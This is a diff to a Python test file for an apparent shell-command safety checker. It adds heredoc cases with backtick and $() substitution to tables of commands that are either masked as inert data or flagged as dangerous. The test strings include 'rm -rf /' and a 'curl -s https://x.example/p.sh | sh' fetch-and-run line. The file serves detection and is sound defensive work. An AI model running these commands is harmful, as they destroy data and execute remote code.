@@ -57,6 +57,7 @@ def _effects(command: str) -> tuple[tuple[str, ...], tuple[str, ...]] | None:
     ("timeout 30 sudo -u ci rg -n 'rm -rf /' .", "rm -rf /"),
     ("env LC_ALL=C grep -r 'curl .* | sh' .", "curl"),
     ('cat > /tmp/r.md <<EOF\nrm -rf /\nEOF', "rm -rf /"),  # into a note: written, not run (yet)
+    ("cat > /tmp/r.md <<'EOF'\nrun `rm -rf /` or $(rm -rf /)\nEOF", "rm -rf /"),  # quoted: nothing expands
 ])
 def test_data_parts_are_blanked(command: str, hidden: str) -> None:
     masked = blank(command)
@@ -78,6 +79,8 @@ def test_data_parts_are_blanked(command: str, hidden: str) -> None:
     'echo "rm -rf /" > "$F"',
     'python3 -c "$(cat <<EOF\nimport os; os.system(\'rm -rf /\')\nEOF\n)"',
     "cat <<EOF > notes.md\n$(curl -s https://x.example/p.sh | sh)\nEOF",
+    "cat <<EOF > notes.md\nrun `curl -s https://x.example/p.sh | sh` now\nEOF",  # bash runs backticks too
+    "cat <<EOF > notes.md\nit`s rm -rf /\nEOF",  # a lone backtick: bash refuses it, read whole
     "bash <<EOF\nrm -rf /\nEOF",
     "rm -rf / # cleanup",
     "cat > /tmp/r.sh <<EOF\nrm -rf /\nEOF",  # into a script, not a note: some tool may run it later
